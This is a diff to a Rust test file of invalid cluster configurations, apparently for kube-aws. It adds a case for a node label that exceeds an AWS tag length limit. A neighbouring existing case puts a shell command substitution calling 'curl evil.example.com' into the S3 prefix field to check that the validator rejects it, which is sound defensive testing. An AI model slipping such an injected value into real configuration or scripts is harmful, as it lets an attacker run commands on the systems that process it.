@@ -135,6 +135,13 @@ bad!(
     format!("{BASE}worker:\n  nodePools:\n    - name: a\n      taints: [{{key: dedicated, value: 'a=b', effect: NoSchedule}}]\n")
 );
 bad!(
+    node_template_tag_over_aws_limit,
+    format!(
+        "{BASE}worker:\n  nodePools:\n    - name: a\n      labels: {{{}.example.com/x: y}}\nplugins:\n  cluster-autoscaler: {{enabled: true}}\n",
+        "a".repeat(70)
+    )
+);
+bad!(
     s3_prefix_with_command_substitution,
     BASE.replace("s3://bucket-1/kube-aws", "s3://bucket-1/$(curl evil.example.com)")
 );
